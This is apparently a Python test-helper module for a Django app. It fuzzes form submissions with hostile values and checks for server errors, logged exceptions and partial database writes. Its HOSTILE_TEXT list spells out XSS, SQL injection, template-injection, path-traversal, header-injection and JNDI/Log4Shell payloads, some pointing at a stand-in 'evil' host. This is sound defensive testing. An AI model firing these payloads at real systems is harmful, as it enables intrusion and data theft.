"""Hostile input for the bad-input tests: hypothesis strategies, a raw form poster and the
checks every submission must pass (never a 500, never a logged exception, never a partial
write).

Values are posted as raw ``application/x-www-form-urlencoded`` bytes, as a browser or a
script would send them: lone surrogates go out as the bytes a broken client writes
(``\\xed\\xa0\\x80``), which Django decodes to U+FFFD, and NUL goes out as ``%00``.
"""

from __future__ import annotations

import logging
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from django.apps import apps
from django.db import connection, transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# --- Settings -------------------------------------------------------------------------------

# The test's fixtures are built once per test and every example runs in a savepoint that is
# rolled back (see ``rolled_back``), so sharing them between examples is safe.
FAST = settings(
    max_examples=12,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def examples(n: int) -> settings:
    return settings(FAST, max_examples=n)


# --- Values ---------------------------------------------------------------------------------

HUGE = "A" * 100_000
NUL = "\x00"
LONE_SURROGATE = "\ud800"

HOSTILE_TEXT: list[str] = [
    HUGE,
    "Ω" * 100_000,  # two bytes each: 200 KB
    NUL,
    f"Nicosia{NUL}",
    f"{NUL}<script>",
    LONE_SURROGATE,
    f"ok{LONE_SURROGATE}ok",
    "\udfff",
    "\u202eevil.exe\u202c",  # right-to-left override
    "\u200f\u200e\u200b\u2060\ufeff",  # RTL/LTR marks, zero-width space, word joiner, BOM
    "Λευκωσία Lefkoşa ניקוסיה نيقوسيا ",  # mixed scripts
    "👩🏽‍🤝‍👨🏿🏳️‍🌈🇨🇾",  # emoji with ZWJ sequences and flags
    "ﷺ" * 50,
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "'; DROP TABLE participants_participant; --",
    "1' OR '1'='1",
    "%' OR 1=1 --",
    "\\x00\\u0000%00",
    '=HYPERLINK("http://evil","x")',
    "   ",
    "\t\r\n",
    "",
    "\x01\x02\x07\x1b[31m",
    "a\r\nSet-Cookie: x=y",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "${jndi:ldap://evil/a}",
]
HOSTILE_NUMBERS: list[str] = [
    "-1",
    "0",
    "-0",
    "2147483648",
    "9223372036854775808",
    "1" + "0" * 400,
    "1e308",
    "1e999",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "1.5",
    "0x10",
    "١٢",  # Arabic-Indic digits
    "１２",  # full-width digits
    "²",
    "9" * 5000,
    " 7 ",
    "7\x00",
]
HOSTILE_DATES: list[str] = [
    "0000-01-01",
    "0001-01-01",
    "0001-01-01T00:00",
    "9999-12-31",
    "9999-12-31T23:59",
    "10000-01-01",
    "2027-02-30",
    "2027-13-01",
    "2027-00-10",
    "31/12/2027",
    "12/31/2027",
    "2027-06-15T25:61",
    "2027-06-15 10:00",
    "2027-06-15T10:00:00+99:00",
    "yesterday",
    "-2027-01-01",
    "2027-06-15\x00",
]
HOSTILE_CHOICES: list[str] = [
    "unknown",
    "ADMIN",
    "__all__",
    "null",
    "None",
    "true",
    "1;",
    "[]",
    "{}",
]
HOSTILE_IDS: list[str] = [
    "0",
    "²",  # isdigit(), but not for int()
    "1" * 5000,  # past int()'s 4,300 digits
    "-1",
    "abc",
    "1.0",
    "1e3",
    " 1",
    "9999999",
    "2147483648",
    "9223372036854775808",
    "99999999999999999999999",
    "1,2",
    "u:1",
    "p:abc",
    "u:9223372036854775808",
    "\x00",
]


def hostile_text() -> st.SearchStrategy[str]:
    """Fixed nasty strings, combinations of them, and random unicode (any category)."""
    fixed = st.sampled_from(HOSTILE_TEXT)
    return st.one_of(
        fixed,
        fixed,
        st.tuples(fixed, fixed).map("".join),
        st.text(min_size=0, max_size=40),
        st.text(st.characters(codec=None, categories=["Cc", "Cf", "Cs", "Co", "Zs"]), max_size=8),
    )


def any_hostile() -> st.SearchStrategy[str]:
    """Anything: text, numbers, dates, choices and ids, for fields of every kind."""
    return st.one_of(
        hostile_text(),
        st.sampled_from(HOSTILE_NUMBERS),
        st.sampled_from(HOSTILE_DATES),
        st.sampled_from(HOSTILE_CHOICES),
        st.sampled_from(HOSTILE_IDS),
    )


def hostile_for(kind: str, extra: Sequence[str] = ()) -> st.SearchStrategy[str]:
    """Hostile values for one kind of field, sometimes of another kind (a date where a
    number goes); ``extra`` adds values that matter for this field (other objects' ids)."""
    own = {
        "text": hostile_text(),
        "number": st.sampled_from(HOSTILE_NUMBERS),
        "date": st.sampled_from(HOSTILE_DATES),
        "choice": st.sampled_from(HOSTILE_CHOICES),
        "id": st.sampled_from(HOSTILE_IDS),
        "bool": st.sampled_from(["on", "off", "", "yes", "2", NUL]),
    }[kind]
    options = [own, own, own, any_hostile()]
    if extra:
        options.append(st.sampled_from(list(extra)))
    return st.one_of(options)


@st.composite
def submissions(
    draw: st.DrawFn,
    valid: Mapping[str, Any],
    kinds: Mapping[str, str],
    extra: Mapping[str, Sequence[str]] | None = None,
) -> dict[str, Any]:
    """A valid submission with some fields (at least one) replaced by hostile values, some
    dropped, some repeated."""
    extra = extra or {}
    names = sorted(kinds)
    chosen = draw(st.lists(st.sampled_from(names), min_size=1, max_size=len(names), unique=True))
    data: dict[str, Any] = dict(valid)
    for name in chosen:
        how = draw(st.sampled_from(["replace", "replace", "replace", "drop", "many"]))
        if how == "drop":
            data.pop(name, None)
        elif how == "many":
            data[name] = draw(st.lists(hostile_for(kinds[name], extra.get(name, ())), max_size=3))
        else:
            data[name] = draw(hostile_for(kinds[name], extra.get(name, ())))
    return data


# --- Sending --------------------------------------------------------------------------------


def encode(data: Mapping[str, Any]) -> bytes:
    """Form data as the raw bytes a client sends; lone surrogates pass as broken UTF-8."""
    parts = []
    for name, value in data.items():
        values = value if isinstance(value, list | tuple) else [value]
        for one in values:
            key = quote(str(name).encode("utf-8", "surrogatepass"), safe="")
            parts.append(f"{key}={quote(str(one).encode('utf-8', 'surrogatepass'), safe='')}")
    return "&".join(parts).encode("ascii")


def post(client, url: str, data: Mapping[str, Any], **headers: str):
    return client.generic(
        "POST", url, encode(data), content_type="application/x-www-form-urlencoded", **headers
    )


def get(client, url: str, data: Mapping[str, Any], **headers: str):
    query = encode(data).decode("ascii")
    return client.generic("GET", f"{url}?{query}" if query else url, **headers)


# --- Checking -------------------------------------------------------------------------------


class _Errors(logging.Handler):
    def __init__(self) -> None:
        super().__init__(level=logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@contextmanager
def logged_errors() -> Iterator[list[logging.LogRecord]]:
    """Every record at ERROR or above logged meanwhile, by any logger (django.request logs
    a request's exception; our own code logs what it caught)."""
    handler = _Errors()
    root = logging.getLogger()
    root.addHandler(handler)
    loggers = [logging.getLogger(name) for name in ("django", "django.request")]
    for logger in loggers:
        logger.addHandler(handler)
    try:
        yield handler.records
    finally:
        root.removeHandler(handler)
        for logger in loggers:
            logger.removeHandler(handler)


APP_LABELS = ("core", "participants", "dialogues", "workshops")


def _tables() -> list[str]:
    return sorted(
        model._meta.db_table
        for label in APP_LABELS
        for model in apps.get_app_config(label).get_models()
        if not model._meta.proxy and model._meta.managed
    ) + ["django_content_type"]


@dataclass
class Snapshot:
    """A digest of every row of the project's tables: any insert, update or delete changes
    it. ``changed`` names the tables that differ."""

    digests: dict[str, str] = field(default_factory=dict)

    @classmethod
    def take(cls, ignore: Sequence[str] = ()) -> Snapshot:
        tables = [t for t in _tables() if t not in ignore]
        parts = ", ".join(
            f"(SELECT md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) "
            f'FROM "{table}" t)'
            for table in tables
        )
        with connection.cursor() as cursor:
            cursor.execute(f"SELECT {parts}")
            row = cursor.fetchone()
        return cls(dict(zip(tables, row, strict=True)))

    def changed(self, other: Snapshot) -> list[str]:
        return sorted(t for t in self.digests if self.digests[t] != other.digests.get(t))


@contextmanager
def rolled_back() -> Iterator[None]:
    """Run one example in a savepoint that is always rolled back."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def assert_no_server_error(response, errors: list[logging.LogRecord], data: Any = None) -> None:
    shown = repr(data)[:500]
    assert response.status_code < 500, f"{response.status_code} for {shown}"
    assert not errors, (
        f"logged {[r.getMessage()[:200] for r in errors]} ({errors[0].exc_info}) for {shown}"
    )
